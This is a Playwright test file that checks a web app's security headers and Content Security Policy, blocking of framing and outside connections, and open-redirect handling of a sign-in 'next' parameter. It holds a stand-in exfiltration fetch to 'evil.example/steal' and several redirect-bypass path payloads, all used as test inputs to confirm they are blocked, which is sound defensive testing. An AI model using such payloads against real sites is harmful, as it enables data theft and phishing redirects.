import { expect, type Page, test } from '@playwright/test';
import { ACME_ID, ALICE, BOB, itemRow, signIn, uniqueTitle, waitUntilLive } from './support/users';

/** The directives of a CSP header, by name. */
function directives(csp: string): Map<string, string[]> {
  return new Map(
    csp
      .split(';')
      .map((part) => part.trim().split(/\s+/))
      .filter(([name]) => name)
      .map(([name, ...values]) => [name!, values]),
  );
}

async function expectSecurityHeaders(page: Page, path: string) {
  const response = await page.request.get(path, { maxRedirects: 0 });
  const headers = response.headers();
  expect(headers['x-frame-options'], path).toBe('DENY');
  expect(headers['x-content-type-options'], path).toBe('nosniff');
  expect(headers['referrer-policy'], path).toBe('strict-origin-when-cross-origin');
  const csp = directives(headers['content-security-policy'] ?? '');
  expect(csp.get('frame-ancestors'), path).toEqual(["'none'"]);
  expect(csp.get('object-src'), path).toEqual(["'none'"]);
  const scripts = csp.get('script-src') ?? [];
  expect(scripts, path).toContain("'strict-dynamic'");
  expect(
    scripts.some((source) => /^'nonce-[A-Za-z0-9+/=]{20,}'$/.test(source)),
    path,
  ).toBe(true);
  expect(scripts, path).not.toContain("'unsafe-inline'");
  expect(scripts, path).not.toContain("'unsafe-eval'");
  // Realtime: the Supabase URL over http and ws.
  const connect = csp.get('connect-src') ?? [];
  const supabase = connect.find((source) => source.startsWith('http'));
  expect(supabase, path).toBeDefined();
  expect(connect, path).toContain(supabase!.replace(/^http/, 'ws'));
  return headers['content-security-policy']!;
}

test('every page sends a CSP with a fresh nonce, frame-ancestors none, nosniff and a referrer policy', async ({
  page,
}) => {
  const signedOut = ['/', '/sign-in', '/sign-up', '/forgot-password', '/auth/error', '/nope'];
  const policies = [];
  for (const path of signedOut) policies.push(await expectSecurityHeaders(page, path));
  // A protected page redirects a signed-out visitor, and the redirect carries them too.
  policies.push(await expectSecurityHeaders(page, '/dashboard'));
  await signIn(page, ALICE);
  for (const path of ['/dashboard', '/profile', `/orgs/${ACME_ID}`, `/orgs/${ACME_ID}/settings`]) {
    policies.push(await expectSecurityHeaders(page, path));
  }
  expect(new Set(policies).size).toBe(policies.length);

  // Next's static files are not framed or sniffed either.
  const html = await (await page.request.get('/sign-in')).text();
  const asset = /\/_next\/static\/[^"]+\.js/.exec(html)?.[0];
  expect(asset).toBeDefined();
  const assetHeaders = (await page.request.get(asset!)).headers();
  expect(assetHeaders['x-content-type-options']).toBe('nosniff');
  expect(assetHeaders['x-frame-options']).toBe('DENY');
});

/** Collects CSP violations the page reports, from the console and from the DOM event. */
async function watchViolations(page: Page): Promise<string[]> {
  const violations: string[] = [];
  page.on('console', (message) => {
    if (/Content Security Policy|Refused to/i.test(message.text())) violations.push(message.text());
  });
  await page.exposeFunction('__reportCspViolation', (text: string) => violations.push(text));
  await page.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', (event) => {
      (window as unknown as { __reportCspViolation(text: string): void }).__reportCspViolation(
        `${event.violatedDirective} blocked ${event.blockedURI}`,
      );
    });
  });
  return violations;
}

test('the app works under its CSP: sign-in, live items over Realtime, theme, no violations', async ({
  browser,
}) => {
  const alice = await (await browser.newContext()).newPage();
  const bob = await (await browser.newContext()).newPage();
  const aliceViolations = await watchViolations(alice);
  const bobViolations = await watchViolations(bob);

  await signIn(alice, ALICE);
  await signIn(bob, BOB);
  for (const page of [alice, bob]) {
    await page.goto(`/orgs/${ACME_ID}`);
    await waitUntilLive(page);
  }
  const title = uniqueTitle('Under CSP');
  await alice.getByLabel('New item').fill(title);
  await alice.getByRole('button', { name: 'Add' }).click();
  // Arrives in Bob's tab over the Realtime websocket, which connect-src allows.
  await expect(itemRow(bob, title)).toBeVisible();
  await alice.getByRole('button', { name: `Delete “${title}”` }).click();
  await expect(itemRow(bob, title)).toHaveCount(0);
  // The theme script ran before paint (it needs the nonce): the page has a theme class.
  await expect(alice.locator('html')).toHaveClass(/light|dark/);
  await alice.goto('/profile');
  await expect(alice.getByRole('heading', { name: 'Profile' })).toBeVisible();

  expect(aliceViolations).toEqual([]);
  expect(bobViolations).toEqual([]);
});

test('no other page can frame ours, and the policy stops connections to other hosts', async ({
  page,
  baseURL,
}) => {
  const messages: string[] = [];
  page.on('console', (message) => messages.push(message.text()));
  await page.setContent(`<iframe src="${baseURL}/sign-in"></iframe>`);
  await expect
    .poll(() => messages.some((text) => text.includes("frame-ancestors 'none'")))
    .toBe(true);
  expect(await page.frames()[1]?.getByText('Welcome back').count()).toBe(0);

  const violations = await watchViolations(page);
  await page.goto('/sign-in');
  await page.evaluate(() => fetch('https://evil.example/steal').catch(() => undefined));
  await expect
    .poll(() => violations.join('\n'))
    .toContain('connect-src blocked https://evil.example');
});

test('next= paths that resolve to another host land on the dashboard, signing in or signed in', async ({
  page,
}) => {
  await signIn(page, ALICE, `/sign-in?next=${encodeURIComponent('/./\\evil.example')}`);
  await expect(page).toHaveURL(/\/dashboard$/);
  for (const next of ['/.//evil.example', '/x/..//evil.example', '/%2f%2fevil.example']) {
    await page.goto(`/sign-in?next=${encodeURIComponent(next)}`);
    await expect(page).toHaveURL(/\/dashboard$/);
    expect(new URL(page.url()).host).not.toBe('evil.example');
  }
});
